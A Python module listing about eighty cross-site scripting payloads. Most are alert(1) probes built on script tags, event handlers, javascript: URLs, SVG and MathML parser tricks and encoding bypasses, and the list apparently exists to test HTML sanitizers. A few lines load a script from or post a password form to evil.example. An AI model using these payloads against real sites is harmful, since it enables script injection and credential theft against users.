"""What strangers put into texts so that a browser runs it: one payload on a line, of 77 kinds and more."""

from __future__ import annotations

LINES = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>alert(1)
<script/x>alert(1)</script>
<img src=x onerror=alert(1)>
<img src='x' onerror='alert(1)'
<IMG SRC="javascript:alert(1)">
<img/src/onerror=alert(1)>
<img src=`x`onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href='javascript:alert(1)'><text>c</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><style><img src=x onerror=alert(1)></style>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math href='javascript:alert(1)'>c</math>
<math><a xlink:href='javascript:alert(1)'>c
<a href='javascript:alert(1)'>c</a>
<a href='java&#9;script:alert(1)'>c</a>
<a href='&#106;avascript:alert(1)'>c</a>
<a href='&#1;javascript:alert(1)'>c</a>
<a href='JaVaScRiPt:alert(1)'>c</a>
<a href='data:text/html,<script>alert(1)</script>'>c</a>
<a href='vbscript:alert(1)'>c</a>
<a onclick=alert(1)>c</a>
<form action='javascript:alert(1)'><input type=submit></form>
<form><button formaction='javascript:alert(1)'>c</button></form>
<form action=//evil.example><input name=p type=password>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<textarea><script>alert(1)</script>
<keygen autofocus onfocus=alert(1)>
<iframe src='javascript:alert(1)'></iframe>
<iframe srcdoc='<script>alert(1)</script>'></iframe>
<object data='javascript:alert(1)'></object>
<embed src='javascript:alert(1)'>
<body onload=alert(1)>
<html onmouseover=alert(1)>
<marquee onstart=alert(1)>c</marquee>
<details open ontoggle=alert(1)>c</details>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<video poster='javascript:alert(1)'></video>
<meta http-equiv=refresh content='0;url=javascript:alert(1)'>
<base href='javascript:alert(1)//'>
<link rel=stylesheet href='javascript:alert(1)'>
<style>@import 'javascript:alert(1)';</style>
<div style='background:url(javascript:alert(1))'>c</div>
<style>*{x:expression(alert(1))}</style>
<!--><script>alert(1)</script>-->
<!--!><img src=x onerror=alert(1)>
<!-- --!><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?xml version='1.0'?><script>alert(1)</script>
<!DOCTYPE x [<!ENTITY a '<script>alert(1)</script>'>]>&a;
<xmp><script>alert(1)</script></xmp>
<plaintext><script>alert(1)</script>
<noscript><p title='</noscript><script>alert(1)</script>'>
<noembed><img src=x onerror=alert(1)></noembed>
<template><script>alert(1)</script></template>
<title><script>alert(1)</script></title>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
"><script>alert(1)</script>
' onmouseover='alert(1)
`<script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)
<div hx-get='/admin/logout/' hx-trigger=load data-hx-post='/x' hx-on:click='alert(1)'>c</div>
<p class=badge id=main style=color:red>c</p>
<img src='https://evil.example/pixel.gif'>
＜script＞alert(1)＜/script＞
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<b><b><b><a><a>alert(1)
<table><a><tr><img src=x onerror=alert(1)>
{{ alert(1) }}{% debug %}
"""
NOT_ON_A_LINE = [
    "\x00<scr\x00ipt>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<a href=x" + "<b>" * 200,
    "<img\nsrc=x\nonerror=alert(1)>",
]
PAYLOADS = [*LINES.strip().split("\n"), *NOT_ON_A_LINE]
